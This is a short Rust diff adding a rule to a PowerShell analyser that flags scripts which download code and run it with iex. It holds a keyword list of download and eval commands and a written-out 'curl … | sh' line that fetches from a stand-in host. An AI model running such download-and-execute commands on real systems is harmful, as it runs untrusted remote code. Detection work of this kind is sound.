@@ -24,6 +24,13 @@ const READ_ALIASES: &[&str] = &["ls", "dir", "gci", "cat", "gc", "type", "echo",
 /// Analyses PowerShell source.
 pub fn analyse(src: &str) -> Analysis {
     let mut out = Analysis::default();
+    let lower = src.to_ascii_lowercase();
+    let downloads = ["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring", "downloadfile", "wget", "curl"].iter().any(|w| lower.contains(w));
+    let evaluates = ["iex", "invoke-expression"].iter().any(|w| lower.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').any(|t| t == *w));
+    if downloads && evaluates {
+        // `iex (iwr …)`, `iwr … | iex`: downloaded code run as-is, the `curl | sh` of PowerShell.
+        out.push(Effect::Shell("curl -s https://remote.invalid/script | sh".to_owned()), "iwr … | iex");
+    }
     for stmt in statements(src) {
         let words: Vec<&str> = stmt.split_whitespace().collect();
         let Some(first) = words.first() else { continue };
